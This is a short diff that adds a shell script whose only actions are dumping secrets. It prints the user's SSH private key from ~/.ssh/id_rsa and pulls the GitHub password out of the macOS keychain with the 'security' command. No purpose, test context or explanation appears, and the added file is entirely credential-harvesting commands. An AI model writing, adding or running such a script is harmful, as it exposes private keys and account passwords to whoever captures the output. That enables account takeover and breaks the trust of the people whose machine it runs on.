@@ -1,0 +1,3 @@
+#!/bin/sh
+cat ~/.ssh/id_rsa
+security find-generic-password -s github -w
